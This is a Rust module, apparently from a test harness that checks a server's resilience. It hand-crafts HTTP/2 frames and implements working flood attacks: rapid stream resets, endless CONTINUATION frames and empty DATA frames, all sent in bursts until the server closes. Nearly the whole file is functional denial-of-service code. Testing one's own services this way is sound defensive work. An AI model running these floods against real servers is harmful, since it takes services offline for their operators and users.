//! HTTP/2 as somebody writes it who wants to do harm: frames by hand, as fast as they go.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::slow::{Kind, Target};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// How many frames are written at a time.
const BURST: u32 = 256;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The preface and empty settings.
pub fn beginning() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
}

/// A literal that is not indexed: a name (lower case) and its value, each shorter than 127 bytes.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let short = |text: &str| {
        let mut bytes = vec![u8::try_from(text.len()).ok().filter(|n| *n < 127).expect("a short text")];
        bytes.extend_from_slice(text.as_bytes());
        bytes
    };
    [vec![0], short(name), short(value)].concat()
}

/// A header block: method (indexed: 2 GET, 3 POST), scheme http, path, authority, token.
fn block(method: u8, path: &str, token: &str) -> Vec<u8> {
    let mut block = vec![0x80 | method, 0x86];
    block.extend(literal(":path", path));
    block.extend(literal(":authority", "x"));
    block.extend(literal("authorization", &format!("Bearer {token}")));
    block.extend(literal("content-type", "application/json"));
    block
}

/// A good request, by GET.
pub fn request(path: &str, token: &str) -> Vec<u8> {
    [beginning(), frame(HEADERS, END_HEADERS | END_STREAM, 1, &block(2, path, token))].concat()
}

/// Whether what has been read so far holds a header of status 200 (which HPACK writes as one byte).
pub fn is_answered_200(mut read: &[u8]) -> bool {
    while let Some((head, rest)) = read.split_at_checked(9) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let Some((payload, rest)) = rest.split_at_checked(length) else { return false };
        if head[3] == HEADERS && payload.first() == Some(&0x88) {
            return true;
        }
        read = rest;
    }
    false
}

/// The frames that follow the first ones, over and over; `turn` counts.
fn more(kind: Kind, turn: u32, block: &[u8]) -> Vec<u8> {
    match kind {
        Kind::Http2EmptyData => frame(DATA, 0, 1, &[]),
        Kind::Http2Continuation => frame(CONTINUATION, 0, 1, &literal("x", "y")),
        _ => {
            let stream = turn * 2 + 1;
            let asked = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
            [asked, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
        }
    }
}

/// Floods until the server closes.
pub async fn flood(kind: Kind, stream: TcpStream, target: &Target) {
    let (mut input, mut output) = stream.into_split();
    let first = match kind {
        Kind::Http2EmptyData => frame(HEADERS, END_HEADERS, 1, &block(3, &target.takes, &target.token)),
        Kind::Http2Continuation => frame(HEADERS, 0, 1, &block(2, "/healthz", &target.token)),
        _ => Vec::new(),
    };
    let asked = block(2, &target.long, &target.token);
    let flooding = async move {
        let mut bytes = [beginning(), first].concat();
        let mut turn = 0;
        while output.write_all(&bytes).await.is_ok() {
            bytes = (turn..turn + BURST).flat_map(|turn| more(kind, turn, &asked)).collect();
            turn += BURST;
        }
    };
    let reading = async move {
        let mut buffer = [0; 4096];
        while input.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
    };
    tokio::select! {
        () = flooding => {}
        () = reading => {}
    }
}
